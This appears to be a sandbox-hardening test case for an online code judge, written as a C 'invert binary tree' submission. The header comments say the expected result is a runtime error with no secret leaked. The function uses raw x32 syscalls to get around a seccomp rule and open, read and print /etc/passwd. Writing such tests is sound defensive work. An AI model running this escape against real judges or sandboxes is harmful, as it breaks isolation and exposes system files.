// problem: invert-binary-tree
// expect: RE
// effect: no-secret
// why: A23 x32 open (0x40000000 | 2) of /etc/passwd, read and print: on a kernel with x32 this bypasses an x86-64 rule on open
#include <unistd.h>
struct TreeNode* invertTree(struct TreeNode* root) {
    usleep(100000);   /* printed text is kept only once the judge has seen the case start */
    static char buf[4096];
    long fd = 0x40000000L | 2;
    __asm__ volatile("syscall" : "+a"(fd) : "D"("/etc/passwd"), "S"(0L) : "rcx", "r11", "memory");
    if (fd >= 0) {
        long n = 0x40000000L | 0;   /* read */
        __asm__ volatile("syscall" : "+a"(n) : "D"(fd), "S"(buf), "d"(sizeof buf) : "rcx", "r11", "memory");
        if (n > 0)
            fwrite(buf, 1, (size_t)n, stdout);
    }
    (void)root;
    return NULL;
}
